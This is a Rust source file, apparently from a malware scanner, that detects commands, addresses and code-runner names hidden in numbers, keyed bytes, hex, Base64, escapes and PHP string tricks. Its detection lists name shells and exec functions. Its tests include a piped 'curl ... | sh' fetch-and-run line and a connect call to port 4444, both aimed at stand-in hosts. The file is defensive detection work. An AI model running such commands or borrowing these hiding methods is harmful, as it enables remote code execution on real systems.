//! Text that stands in code so that nobody reads it: as numbers, as numbers that one key changes, in hexadecimal or Base64. What is looked for
//! are addresses, shells and names of what runs code; the key need not be known, since neighbours differ alike under any. Knows no threat.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    sync::LazyLock,
};

use aho_corasick::{AhoCorasick, MatchKind};
use base64::Engine as _;
use regex::bytes::Regex;

use super::terms::compiled;

/// Most bytes of one hidden text that are read.
const MAX_HIDDEN: usize = 8192;
/// Most places of a file that are read for one question.
const MAX_PLACES: usize = 400;

/// What nobody hides without a reason. Long enough that numbers do not spell it by chance.
const WORDS: &[&str] = &[
    "http://",
    "https://",
    "/bin/sh",
    "/bin/bash",
    "powershell",
    "cmd.exe",
    "import os",
    "import socket",
    "subprocess",
    "child_process",
    "os.system",
    "require('",
    "require(\"",
    "eval(atob",
    "/dev/tcp/",
    "process.env",
];

macro_rules! form {
    ($name:ident, $form:literal) => {
        static $name: LazyLock<Option<Regex>> = LazyLock::new(|| compiled($form));
    };
}

// At least sixteen numbers in a row.
form!(
    NUMBERS,
    r"(?:\b\d{1,3}\b[ \t\r\n]*,[ \t\r\n]*){15,}\d{1,3}\b|(?:\b0x[0-9a-fA-F]{1,2}\b[ \t\r\n]*,[ \t\r\n]*){15,}0x[0-9a-fA-F]{1,2}\b"
);
form!(HEX, r"\b[0-9a-fA-F]{32,}\b|(?:\\x[0-9a-fA-F]{2}){16,}");
// Letters in escapes of hexadecimal or octal numbers, six of them in a row.
form!(ESCAPED, r"(?:\\x[0-9a-fA-F]{2}|\\1[0-7]{2}|\\0?[4-7][0-7]|\\u00[0-9a-fA-F]{2}){6,}");
form!(QUOTED, r#"["'`]([A-Za-z0-9+/_-]{8,2048}={0,2})["'`]"#);
// At least sixteen single characters in quotes.
form!(LETTERS, r#"(?:["'][^"'\\\n]["'][ \t\r\n]*,[ \t\r\n]*){15,}["'][^"'\\\n]["']"#);
form!(DECODED_BY_PHP, r#"\b(base64_decode|str_rot13|strrev|hex2bin)\s*\(\s*["']([A-Za-z0-9+/_=]{4,80})["']\s*\)"#);
form!(ADDRESS, r#"(?:https?://|["'`])((?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?["'`/ ]"#);

/// An address of the internet that stands as a number: in a URL, or alone in quotes.
pub fn public_address(text: &str) -> Option<(usize, usize)> {
    let all = ADDRESS.as_ref()?.captures_iter(text.as_bytes()).take(MAX_PLACES);
    all.filter_map(|found| found.get(0).zip(found.get(1))).find_map(|(whole, address)| {
        let is_url = whole.as_bytes().starts_with(b"http");
        let address: Ipv4Addr = std::str::from_utf8(address.as_bytes()).ok()?.parse().ok()?;
        let [first, second, ..] = address.octets();
        let is_own = address.is_private() || address.is_loopback() || address.is_link_local() || first == 0 || first >= 224;
        // Versions of programs look the same; servers of names are everybody's.
        let is_version = !is_url && address.octets().iter().all(|part| *part < 32);
        let is_known =
            matches!(address.octets(), [8, 8, 8, 8] | [8, 8, 4, 4] | [1, 1, 1, 1] | [1, 0, 0, 1]) || (first, second) == (169, 254);
        (!is_own && !is_version && !is_known).then(|| (whole.start(), whole.end()))
    })
}

/// Numbers or hexadecimal digits that spell one of [`WORDS`] under a key: each changed by the same bits, or moved by the same amount.
pub fn scrambled(text: &str) -> Option<(usize, usize)> {
    places(text).into_iter().find(|(_, _, bytes)| is_scrambled(bytes)).map(|(start, end, _)| (start, end))
}

/// Numbers that spell one of [`WORDS`] as they are.
pub fn spelled_in_numbers(text: &str) -> Option<(usize, usize)> {
    // An address with its port, and nothing else.
    let is_address = |bytes: &[u8]| std::str::from_utf8(bytes).is_ok_and(|text| text.parse::<SocketAddrV4>().is_ok());
    places(text).into_iter().find(|(_, _, bytes)| holds_word(bytes) || is_address(bytes)).map(|(start, end, _)| (start, end))
}

fn holds_word(bytes: &[u8]) -> bool {
    WORDS.iter().any(|word| bytes.windows(word.len()).any(|window| window == word.as_bytes()))
}

/// Whether a text could hold a row of numbers or a run of digits as [`places`] looks for: in one pass, without expressions.
fn may_hold_places(text: &[u8]) -> bool {
    const ROW: usize = 15;
    const RUN: usize = 32;
    const ESCAPES: usize = 16;
    let (mut row, mut run, mut escapes, mut before) = (0, 0, 0, 0u8);
    for byte in text {
        let is_hex = byte.is_ascii_hexdigit();
        run = if is_hex { run + 1 } else { 0 };
        match byte {
            b',' => row += 1,
            b'x' if before == b'\\' => escapes += 1,
            b'x' | b'\\' => {}
            _ if is_hex || byte.is_ascii_whitespace() => {}
            _ => row = 0,
        }
        if !is_hex && !matches!(byte, b'x' | b'\\') {
            escapes = 0;
        }
        if row >= ROW || run >= RUN || escapes >= ESCAPES {
            return true;
        }
        before = *byte;
    }
    false
}

/// Rows of numbers and runs of digits, and the bytes that they are.
fn places(text: &str) -> Vec<(usize, usize, Vec<u8>)> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    if !may_hold_places(bytes) {
        return out;
    }
    for found in NUMBERS.iter().flat_map(|form| form.find_iter(bytes)).take(MAX_PLACES) {
        let read = |number: &[u8]| {
            let number = std::str::from_utf8(number).ok()?.trim();
            match number.strip_prefix("0x") {
                Some(digits) => u8::from_str_radix(digits, 16).ok(),
                None => number.parse().ok(),
            }
        };
        let row: Option<Vec<u8>> = found.as_bytes().split(|byte| *byte == b',').take(MAX_HIDDEN).map(read).collect();
        out.extend(row.map(|row| (found.start(), found.end(), row)));
    }
    for found in HEX.iter().flat_map(|form| form.find_iter(bytes)).take(MAX_PLACES) {
        let digits: Vec<u8> = found.as_bytes().iter().copied().filter(|byte| !matches!(byte, b'\\' | b'x')).take(2 * MAX_HIDDEN).collect();
        out.extend(hex::decode(&digits).ok().map(|row| (found.start(), found.end(), row)));
    }
    out
}

fn is_scrambled(bytes: &[u8]) -> bool {
    let by_bits = |a: u8, b: u8| a ^ b;
    let by_amount = |a: u8, b: u8| b.wrapping_sub(a);
    spells(bytes, by_bits, |byte, key| byte ^ key) || spells(bytes, by_amount, |byte, key| byte.wrapping_sub(key))
}

/// Whether neighbours differ as those of a word do, under a key that changes something and leaves the rest a text.
fn spells(bytes: &[u8], differ: impl Fn(u8, u8) -> u8, undo: impl Fn(u8, u8) -> u8) -> bool {
    let differences: Vec<u8> = bytes.windows(2).map(|pair| differ(pair[0], pair[1])).collect();
    WORDS.iter().any(|word| {
        let wanted: Vec<u8> = word.as_bytes().windows(2).map(|pair| differ(pair[0], pair[1])).collect();
        let mut hits = differences.windows(wanted.len()).enumerate().filter(|(_, window)| *window == wanted.as_slice());
        hits.any(|(at, _)| {
            let Some(key) = (0..=255u8).find(|key| undo(bytes[at], *key) == word.as_bytes()[0]) else { return false };
            let around = &bytes[at.saturating_sub(16)..bytes.len().min(at + word.len() + 16)];
            let is_text = |byte: &u8| matches!(undo(*byte, key), b' '..=b'~' | b'\n' | b'\t' | b'\r');
            key != 0 && around.iter().filter(|byte| is_text(byte)).count() * 10 >= around.len() * 9
        })
    })
}

/// Single characters in a list, in no order, among them those that commands and addresses need and words do not.
pub fn loose_letters(text: &str) -> Option<(usize, usize)> {
    let all = LETTERS.as_ref()?.find_iter(text.as_bytes()).take(MAX_PLACES);
    all.map(|found| (found.start(), found.end())).find(|(start, end)| {
        let letters: Vec<char> = text[*start..*end].split(',').filter_map(|one| one.trim().chars().nth(1)).collect();
        let has = |wanted: &[char]| letters.iter().any(|letter| wanted.contains(letter));
        let words: Vec<char> = letters.iter().copied().filter(char::is_ascii_alphabetic).collect();
        words.len() >= 8 && has(&['/']) && has(&[' ', '|', '-', ':']) && !words.is_sorted()
    })
}

/// Names of what runs code or loads it.
const NAMES: &[&str] = &[
    "child_process",
    "_compile",
    "execSync",
    "spawn",
    "require",
    "Function",
    "constructor",
    "process",
    "createDecipheriv",
    "createDecipher",
    "__import__",
    "builtins",
    "subprocess",
    "system",
    "os.system",
    "popen",
    "shell_exec",
    "passthru",
    "gzinflate",
    "base64_decode",
    "fromCharCode",
    "readFileSync",
    "writeFileSync",
];

/// [`NAMES`] in hexadecimal and in Base64, two forms of each in turn.
static ENCODED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let forms = NAMES.iter().flat_map(|name| [hex::encode(name), base64::engine::general_purpose::STANDARD_NO_PAD.encode(name)]);
    AhoCorasick::builder().match_kind(MatchKind::LeftmostLongest).build(forms).ok()
});

/// Two of [`NAMES`], each written in hexadecimal or Base64 as all of what stands in quotes.
pub fn encoded_names(text: &str) -> Option<(usize, usize)> {
    let bytes = text.as_bytes();
    let is_quote = |byte: Option<&u8>| matches!(byte, Some(b'"' | b'\'' | b'`'));
    let mut found = ENCODED.as_ref()?.find_iter(bytes).filter(|found| {
        let end = found.end() + bytes[found.end()..].iter().take(2).take_while(|byte| **byte == b'=').count();
        is_quote(found.start().checked_sub(1).and_then(|before| bytes.get(before))) && is_quote(bytes.get(end))
    });
    let first = found.next()?;
    found.find(|other| other.pattern().as_usize() / 2 != first.pattern().as_usize() / 2).map(|_| (first.start(), first.end()))
}

/// One of [`NAMES`], all of it in escapes: letters that could as well have been written.
pub fn escaped_names(text: &str) -> Option<(usize, usize)> {
    escaped(text).find(|(.., plain)| NAMES.iter().any(|name| plain.as_slice() == name.as_bytes())).map(|(start, end, _)| (start, end))
}

/// An address, a shell or code in escapes.
pub fn escaped_text(text: &str) -> Option<(usize, usize)> {
    escaped(text).find(|(.., plain)| holds_word(plain) || plain.starts_with(b"curl ")).map(|(start, end, _)| (start, end))
}

/// Runs of escapes, and the letters that they are.
fn escaped(text: &str) -> impl Iterator<Item = (usize, usize, Vec<u8>)> + '_ {
    let all = ESCAPED.iter().flat_map(|form| form.find_iter(text.as_bytes())).take(MAX_PLACES);
    all.filter_map(|found| {
        let run = std::str::from_utf8(&found.as_bytes()[..found.len().min(MAX_HIDDEN)]).ok()?;
        let letter = |escape: &str| match escape.strip_prefix('x').or_else(|| escape.strip_prefix("u00")) {
            Some(digits) => u8::from_str_radix(digits, 16).ok(),
            None => u8::from_str_radix(escape, 8).ok(),
        };
        let plain: Option<Vec<u8>> = run.split('\\').skip(1).map(letter).collect();
        Some((found.start(), found.end(), plain?))
    })
}

/// An address, a shell or code, written in Base64 or hexadecimal.
pub fn encoded_text(text: &str) -> Option<(usize, usize)> {
    decoded(text).find(|(.., plain)| plain.is_ascii() && holds_word(plain)).map(|(start, end, _)| (start, end))
}

/// Functions of PHP that run what they are given.
const RUNNERS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "assert",
    "eval",
    "create_function",
    "call_user_func",
    "base64_decode",
    "gzinflate",
];

/// A constant that PHP decodes into the name of a function which runs what it is given.
pub fn php_names(text: &str) -> Option<(usize, usize)> {
    let all = DECODED_BY_PHP.as_ref()?.captures_iter(text.as_bytes()).take(MAX_PLACES);
    all.filter_map(|found| Some((found.get(0)?, found.get(1)?.as_bytes(), found.get(2)?.as_bytes()))).find_map(|(whole, way, word)| {
        let plain: Vec<u8> = match way {
            b"strrev" => word.iter().rev().copied().collect(),
            b"hex2bin" => hex::decode(word).ok()?,
            b"base64_decode" => {
                let kept = word.iter().position(|byte| *byte == b'=').map_or(word, |end| &word[..end]);
                base64::engine::general_purpose::STANDARD_NO_PAD.decode(kept).ok()?
            }
            _ => word.iter().map(|byte| turned(*byte)).collect(),
        };
        RUNNERS.iter().any(|name| plain.eq_ignore_ascii_case(name.as_bytes())).then(|| (whole.start(), whole.end()))
    })
}

/// A letter thirteen places on.
const fn turned(byte: u8) -> u8 {
    match byte {
        b'a'..=b'm' | b'A'..=b'M' => byte + 13,
        b'n'..=b'z' | b'N'..=b'Z' => byte - 13,
        other => other,
    }
}

/// Quoted words that are hexadecimal or Base64 of something.
fn decoded(text: &str) -> impl Iterator<Item = (usize, usize, Vec<u8>)> + '_ {
    let all = QUOTED.iter().flat_map(|form| form.captures_iter(text.as_bytes())).take(8 * MAX_PLACES);
    all.filter_map(|found| {
        let (whole, word) = (found.get(0)?, found.get(1)?);
        let from_hex = hex::decode(word.as_bytes()).ok().filter(|plain| plain.is_ascii());
        let plain = from_hex.or_else(|| {
            let word = word.as_bytes();
            let kept = word.iter().position(|byte| *byte == b'=').map_or(word, |end| &word[..end]);
            base64::engine::general_purpose::STANDARD_NO_PAD.decode(kept).ok()
        })?;
        Some((whole.start(), whole.end(), plain))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(text: &str, key: impl Fn(u8) -> u8) -> String {
        let numbers: Vec<String> = text.bytes().map(|byte| key(byte).to_string()).collect();
        format!("x = [{}]", numbers.join(", "))
    }

    #[test]
    fn a_text_is_read_under_any_key() {
        let command = "curl -fs https://updates.example/a | sh";
        assert!(scrambled(&row(command, |byte| byte ^ 0x5a)).is_some());
        assert!(scrambled(&row(command, |byte| byte.wrapping_add(7))).is_some());
        assert!(scrambled(&row(command, |byte| byte)).is_none());
        assert!(spelled_in_numbers(&row(command, |byte| byte)).is_some());
        assert!(scrambled(&row("a palette of colours, light and dark ones", |byte| byte ^ 0x5a)).is_none());
        let digits: String = command.bytes().map(|byte| format!("{:02x}", byte ^ 0x37)).collect();
        assert!(scrambled(&digits).is_some());
    }

    #[test]
    fn names_and_addresses_are_read_through_their_encoding() {
        assert!(encoded_names("a('6368696c645f70726f63657373'); b('5f636f6d70696c65')").is_some());
        assert!(encoded_names("a('6368696c645f70726f63657373')").is_none());
        let escapes = |text: &str| text.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>();
        assert!(escaped_names(&format!("require('{}')", escapes("child_process"))).is_some());
        assert!(escaped_names(r"$f = '\142\141\163\145\x36\x34\137\144\145\143\157\x64\145'").is_some());
        assert!(escaped_text(&escapes("https://a.example/x")).is_some());
        assert!(escaped_names(&escapes("<script>")).or(escaped_text(&escapes("<script>"))).is_none());
        let letters = |text: &str| text.chars().map(|c| format!("'{c}'")).collect::<Vec<_>>().join(", ");
        assert!(loose_letters(&letters("t/es wgbah-O|dnki")).is_some());
        assert!(loose_letters(&letters("abcdefghijklmnopqrstuvwxyz")).is_none());
        assert!(encoded_text("const api = 'aHR0cHM6Ly9hLmV4YW1wbGUvdjE='").is_some());
        assert!(php_names("$f = str_rot13('flfgrz');").is_some() && php_names("f(hex2bin('6173736572 74'))").is_none());
        assert!(php_names("array_map(strrev('ressap'), $x)").is_none() && php_names("$x = base64_decode('aGVsbG8=')").is_none());
        assert!(encoded_text("const logo = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'").is_none());
    }

    #[test]
    fn addresses_of_the_internet_are_told_from_versions_and_own_networks() {
        assert!(public_address("get('http://198.51.100.7/x')").is_some());
        assert!(public_address("connect((\"203.0.113.9\", 4444))").is_some());
        for other in ["v = '1.2.3.4'", "'10.0.0.1'", "'http://127.0.0.1:80/'", "'192.168.0.2'", "dns = '8.8.8.8'", "a 203.0.113.9 b"] {
            assert!(public_address(other).is_none(), "{other}");
        }
    }
}
